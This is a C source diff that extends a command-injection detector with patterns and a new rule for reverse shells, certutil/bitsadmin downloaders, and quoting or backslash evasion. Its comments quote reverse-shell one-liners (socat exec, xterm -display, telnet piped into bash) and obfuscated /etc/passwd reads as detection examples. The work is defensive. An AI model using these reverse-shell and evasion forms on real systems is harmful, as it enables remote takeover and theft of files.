@@ -14,6 +14,9 @@
 	"bcdboot", "bcdedit", "diskpart", "vssadmin", "wevtutil", "fsutil", "takeown",       \
 	"icacls", "wbadmin"
 
+/* A command after a separator in mid-value: "& x", "&x", "| x" ("|x" is WSG_LETTERS). */
+#define WSG_SEPCMD(cmd) "& " cmd, "&" cmd, "| " cmd
+
 /* Calls, substitution, separators at a value start or glued to a command. */
 const char *const wsg_cmdi_anchors[] = {
 	WSG_LETTERS("", "("), "`", "';", "'|", WSG_DIGITS("", ";"), ");", "\";", "\"|", "\"&",
@@ -32,9 +35,21 @@ const char *const wsg_cmdi_anchors[] = {
 	"/ans", "/vis", "cscli", "unxz", "gunzip", "zstdcat", "bsdtar", "ssh-copy-id",
 	"cpulimit", "rmt-tar", "\"/bin/", "\"/sbin/", "/usr/sbin/", "/usr/local/bin/", "-exec",
 	/* Windows administration tools; a shell variable used as a command; piped into a shell */
-	WSG_WINTOOLS, ";$", "|$", "| sh", "| bash", "| zsh", "${shell}",
+	WSG_WINTOOLS, ";$", "|$", "| sh", "| bash", "| zsh", "| dash", "| ksh",
+	"${shell}",
 	/* an interpreter given code to run: "bash -c", "sh -i", "python -c", "perl -e" */
 	"h -c", "h -i", "n -c", "l -e", "y -e", "n3 -c", "!-",
+	/* reverse shells; Windows downloaders (certutil, bitsadmin) by their rarest piece */
+	"/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/", "-e /", "\"ncat", "socat",
+	"| /bin/", "-display ", "rtut", "tsad",
+	/* a command after "& ", "&" or "| " in mid-value */
+	WSG_SEPCMD("id"), WSG_SEPCMD("ls"), WSG_SEPCMD("nc"), WSG_SEPCMD("ping"),
+	WSG_SEPCMD("sleep"), WSG_SEPCMD("net "), WSG_SEPCMD("type "), WSG_SEPCMD("dir"),
+	WSG_SEPCMD("cmd"), WSG_SEPCMD("powershell"), WSG_SEPCMD("wget"), WSG_SEPCMD("curl"),
+	WSG_SEPCMD("echo"), WSG_SEPCMD("uname"), WSG_SEPCMD("systeminfo"), WSG_SEPCMD("timeout"),
+	WSG_SEPCMD("ipconfig"), WSG_SEPCMD("ifconfig"), WSG_SEPCMD("tasklist"),
+	/* a backslash inside a word ("w\\ho\\am\\i") */
+	WSG_LETTERS("\\", ""),
 	/* mail protocol commands after a CRLF: the CRLF as typed, or a rare verb */
 	"\\r\\n", "rcpt to", "mail from:", "apop ", "vrfy ", "expn ", "ehlo ", "helo ",
 	/* a literal "\\n" before a command */
@@ -58,6 +73,7 @@ static const struct wsg_rule wsg_cmdi_rules[] = {
 	{ "rce-010", "rce", "SMTP, IMAP or POP3 command injected after a CRLF" },
 	{ "rce-011", "rce", "interpreter escape: editor shell escape, SQLite dot command, -wrapper" },
 	{ "rce-012", "rce", "brace, process, arithmetic or history expansion that runs a command" },
+	{ "rce-013", "rce", "reverse shell: a shell wired to a network socket or client" },
 };
 
 static const char *const wsg_spawn_fns[] = {
@@ -148,8 +164,8 @@ static size_t wsg_cmd_sep(const char *s, size_t len, size_t i)
 	if (i >= len)
 		return 0;
 	if (i + 1 < len && ((s[i] == '|' && s[i + 1] == '|') || (s[i] == '&' && s[i + 1] == '&') ||
-			    (s[i] == '$' && s[i + 1] == '(')))
-		return 2;
+			    (s[i] == '$' && s[i + 1] == '(') || (s[i] == '\\' && s[i + 1] == 'n')))
+		return 2;	/* a literal "\\n" is a line break typed into a field */
 	if (s[i] == ';' || s[i] == '|' || s[i] == '&' || s[i] == '`' || s[i] == '\n')
 		return 1;
 	return 0;
@@ -265,6 +281,12 @@ static int wsg_cmdi_start(const char *s, size_t len, struct wsg_hit *h)
 	}
 	if (k < 0 || (lead && k >= WSG_CMD_RISKY && !wsg_cmdi_args(wsg_cmds[k], s, len, end)))
 		return 0;
+	/* "tom & ping pong": after a word and a lone '&', prose unless the arguments attack */
+	if (lead && s[i - 1 - (s[i - 1] == ' ')] == '&' && wsg_cmd_sep(s, len, i - 1) != 2 &&
+	    wsg_is_alpha((unsigned char)s[wsg_skip_space(s, len, end)]) &&
+	    !wsg_cmdi_args(wsg_cmds[k], s, len, end) &&
+	    !wsg_cmdi_windows(wsg_cmds[k], s, len, wsg_skip_space(s, len, end)))
+		return 0;
 	/* "!ntfs | NET||abuse": net is a word unless a net verb follows */
 	if (!strcmp(wsg_cmds[k], "net") &&
 	    !wsg_cmdi_windows("net", s, len, wsg_skip_space(s, len, end)))
@@ -343,8 +365,15 @@ static int wsg_cmdi_args(const char *cmd, const char *s, size_t len, size_t i)
 		return i == end || strchr(";|&`)'\"", s[i]);
 	if (!strcmp(cmd, "cat") || !strcmp(cmd, "type") || !strcmp(cmd, "more") ||
 	    !strcmp(cmd, "head") || !strcmp(cmd, "tail") || !strcmp(cmd, "less")) {
+		char arg[256];
+		size_t n = 0;
+
+		/* "/e\"t\"c/pa's'swd": quotes and backslashes do not split a path */
+		for (size_t k = i; k < end && n + 1 < sizeof(arg); k++)
+			if (s[k] != '"' && s[k] != '\'' && s[k] != '\\')
+				arg[n++] = s[k];
 		for (int k = 0; files[k]; k++)
-			if (memmem(s + i, end - i, files[k], strlen(files[k])))
+			if (memmem(arg, n, files[k], strlen(files[k])))
 				return 1;
 		return 0;
 	}
@@ -365,6 +394,11 @@ static int wsg_cmdi_args(const char *cmd, const char *s, size_t len, size_t i)
 		return i < end && (wsg_is_digit((unsigned char)s[i]) || s[i] == '-');
 	if (!strcmp(cmd, "powershell") || !strcmp(cmd, "cmd") || !strcmp(cmd, "certutil"))
 		return 1;
+	/* socat tcp:x:4444 exec:/bin/sh; xterm -display 10.0.0.1:1 */
+	if (!strcmp(cmd, "socat"))
+		return memmem(s + i, end - i, "exec:", 5) || memmem(s + i, end - i, "system:", 7);
+	if (!strcmp(cmd, "xterm"))
+		return memmem(s + i, end - i, "-display ", 9) != NULL;
 	/* date -f reads a file and prints its lines as errors */
 	if (!strcmp(cmd, "date"))
 		return i + 1 < end && (!memcmp(s + i, "-f", 2) || !memcmp(s + i, "--file", 6));
@@ -638,8 +672,12 @@ static int wsg_cmdi_windows(const char *cmd, const char *s, size_t len, size_t i
 	if (!strcmp(cmd, "netsh") || !strcmp(cmd, "wmic") || !strcmp(cmd, "reg") ||
 	    !strcmp(cmd, "schtasks") || !strcmp(cmd, "bitsadmin") || !strcmp(cmd, "vssadmin") ||
 	    !strcmp(cmd, "invoke-webrequest") || !strcmp(cmd, "invoke-expression") ||
-	    !strcmp(cmd, "pwsh") || !strcmp(cmd, "icacls"))
-		return e > i;
+	    !strcmp(cmd, "pwsh") || !strcmp(cmd, "icacls")) {
+		if (e == i && i + 1 < len && s[i] == '/')	/* "bitsadmin /transfer" */
+			for (e = i + 1; e < len && wsg_is_word((unsigned char)s[e]);)
+				e++;
+		return e > i + 1 || (e > i && s[i] != '/');
+	}
 	if (!strcmp(cmd, "type") || !strcmp(cmd, "dir"))
 		return i + 2 < len && ((s[i + 1] == ':' && wsg_is_alpha((unsigned char)s[i])) ||
 				       s[i] == '%' || s[i] == '\\');
@@ -701,14 +739,22 @@ static int wsg_cmdi_value(const char *s, size_t len, struct wsg_hit *h)
 	for (int w = 0; w < 4; w++) {
 		st = i;
 		e = wsg_cmd_clean(s, len, i, cmd, sizeof(cmd), &hidden);
+		if (i + 9 <= len && !memcmp(s + i, "%comspec%", 9)) {	/* '%' is an anchor */
+			strcpy(cmd, "cmd");
+			e = i + 9;
+		}
 		if (e == i || (e < len && !wsg_is_space((unsigned char)s[e]) &&
 			       !strchr(";|&<>)`'\"\\", s[e])))
 			return 0;
 		{
 			const char *slash = strrchr(cmd, '/');
+			size_t n;
 
 			if (slash && slash[1])
 				memmove(cmd, slash + 1, strlen(slash + 1) + 1);
+			n = strlen(cmd);
+			if (n > 4 && !strcmp(cmd + n - 4, ".exe"))
+				cmd[n - 4] = 0;
 		}
 		i = wsg_skip_space(s, len, e);
 		if (wsg_in_list(wsg_wrappers, cmd, strlen(cmd)) < 0)
@@ -1225,6 +1271,50 @@ static int wsg_cmdi_positions(const char *s, size_t len, struct wsg_hit *h)
 	return 0;
 }
 
+/*
+ * rce-013: bash's /dev/tcp/host/port and awk's /inet/tcp/... sockets; a network client
+ * whose output is piped into a shell ("telnet x 4444 | /bin/bash | telnet x 4445").
+ */
+static int wsg_cmdi_revshell(const char *s, size_t len, struct wsg_hit *h)
+{
+	static const char *const sock[] = { "/dev/tcp/", "/dev/udp/", "/inet/tcp/", "/inet/udp/",
+					    NULL };
+	static const char *const net[] = { "nc", "ncat", "netcat", "telnet", "socat", NULL };
+	static const char *const sh[] = { "sh", "bash", "zsh", "dash", "ksh", NULL };
+
+	for (int k = 0; sock[k]; k++) {
+		const char *p = memmem(s, len, sock[k], strlen(sock[k]));
+		size_t i = p ? (size_t)(p - s) + strlen(sock[k]) : len;
+
+		if (i < len && (wsg_is_word((unsigned char)s[i]) || s[i] == '['))
+			return wsg_cmdi_hit(h, 12, (size_t)(p - s));
+	}
+	for (size_t i = 0; i < len; i = wsg_cmd_next(s, len, i)) {
+		size_t j, e, te;
+		const char *bar;
+
+		i = wsg_skip_space(s, len, i);
+		for (e = i; e < len && wsg_is_word((unsigned char)s[e]);)
+			e++;
+		/* a host, an address or a flag after the client */
+		for (j = te = wsg_skip_space(s, len, e); te < len && !wsg_is_space((unsigned char)s[te]);)
+			te++;
+		if (wsg_in_list(net, s + i, e - i) >= 0 && j < len &&
+		    (wsg_is_digit((unsigned char)s[j]) || s[j] == '-' || memchr(s + j, '.', te - j)) &&
+		    (bar = memchr(s + e, '|', len - e))) {
+			size_t b = (size_t)(bar - s) + 1, n, end;
+
+			b += b < len && s[b] == ' ';	/* "| /bin/", "|/", "| sh", "|s" anchor */
+			n = wsg_cmd_word(s, len, b, &j, &end);
+			if (n && wsg_in_list(sh, s + j, n) >= 0)
+				return wsg_cmdi_hit(h, 12, b);
+		}
+		if (i == len)
+			break;
+	}
+	return 0;
+}
+
 static int wsg_cmdi_misc(const char *s, size_t len, struct wsg_hit *h)
 {
 	const char *p = memmem(s, len, "()", 2);
@@ -1382,5 +1472,5 @@ int wsg_detect_cmdi(const struct wsg_text *t, struct wsg_hit *h)
 	       wsg_cmdi_subst(t->s, t->len, h) ||
 	       wsg_cmdi_chain(t->s, t->len, h) || wsg_cmdi_misc(t->s, t->len, h) ||
 	       wsg_cmdi_mail(t->s, t->len, h) || wsg_cmdi_glob(t->s, t->len, h) ||
-	       wsg_cmdi_positions(t->s, t->len, h);
+	       wsg_cmdi_positions(t->s, t->len, h) || wsg_cmdi_revshell(t->s, t->len, h);
 }
